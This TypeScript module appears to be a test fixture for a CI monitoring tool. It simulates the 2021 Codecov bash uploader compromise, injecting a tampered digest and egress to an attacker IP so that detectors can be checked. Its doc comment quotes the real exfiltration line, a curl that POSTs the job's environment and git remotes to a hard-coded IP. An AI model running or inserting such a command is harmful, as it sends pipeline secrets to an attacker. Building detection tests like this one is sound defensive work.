import { fakeDigest } from '../random/prng.js';
import { WEEK_MS, schedule } from '../traffic/fleet.js';
import { attackLog, attackRun, benignLinesOf, endOf, HOUR_MS, lastRunOf, type Incident } from './incident.js';

/** The uploader's own version string, unchanged in the tampered copy: only its checksum told them apart. */
const UPLOADER = 'codecov-bash';
const ATTACKER_IP = '104.248.94.23';

/**
 * Codecov bash uploader, 31 Jan - 1 Apr 2021. Using an HMAC key leaked from a
 * layer of Codecov's public Docker image, the attacker modified the uploader in
 * Google Cloud Storage. Pipelines kept running `bash <(curl -s https://codecov.io/bash)`;
 * the script now also ran one line,
 * `curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://<ip>/upload/v2 || true`,
 * sending the job's environment (its secrets) to a hard-coded IP (104.248.94.23
 * per the retrospectives). It printed nothing. A customer found it by comparing
 * the script's SHA with the published one. A monitor sees: the same uploader
 * version with another digest, and a connection to a bare IP with no DNS lookup.
 */
export const codecovBashUploader: Incident = {
  id: 'codecov-bash-uploader-2021',
  title: 'Codecov bash uploader modified to send env to an attacker IP',
  when: '2021-01-31 .. 2021-04-01',
  sources: [
    'https://about.codecov.io/apr-2021-post-mortem/',
    'https://safeguard.sh/resources/blog/codecov-bash-uploader-compromise',
    'https://safeguard.sh/resources/blog/codecov-bash-uploader-2021-supply-chain-retrospective',
  ],
  expected: [
    { anyOf: ['integrity.dependency.digest_mismatch'], via: 'run', sees: 'same uploader version, different checksum' },
    { anyOf: ['access.egress.unresolved_ip'], via: 'run', sees: 'env POSTed to a hard-coded IP, no DNS lookup' },
  ],
  weeks: 4,
  shape: {
    ecosystem: 'python',
    jobs: ['build', 'test', 'lint'],
    customize(repo, rng, { start, end }) {
      const test = repo.jobs.find((job) => job.kind === 'test')!;
      test.codecov = false;
      test.hosts.push('codecov.io', 'storage.googleapis.com');
      test.secrets.push('CODECOV_TOKEN', 'AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY');
      test.downloads.push({ name: UPLOADER, url: 'https://codecov.io/bash', releases: schedule(rng, start, end, 3 * WEEK_MS), logLine: 'bash <(curl -s https://codecov.io/bash)' });
    },
  },
  inject(history, { rng }) {
    const items = [...history];
    let at = endOf(history) + HOUR_MS;
    // Every run in the two months used the tampered script: three in a row here.
    for (let n = 0; n < 3; n++) {
      const template = lastRunOf(history, 'test');
      const run = attackRun(template, this.id, n, at, rng, (event) => {
        for (const dependency of event.dependencies ?? []) {
          if (dependency.name === UPLOADER) dependency.digest = `sha256:${fakeDigest('codecov-bash', 'tampered', dependency.version ?? '')}`;
        }
        event.access!.egress!.push({ ip: ATTACKER_IP, port: 80, bytes_out: rng.int(3000, 9000), resolved: false });
        event.resources!.net_tx_bytes = (event.resources!.net_tx_bytes ?? 0) + 6000;
      });
      items.push(attackLog(run, benignLinesOf(history, template), this.id), run);
      at += rng.float(2, 8) * HOUR_MS;
    }
    return items;
  },
};
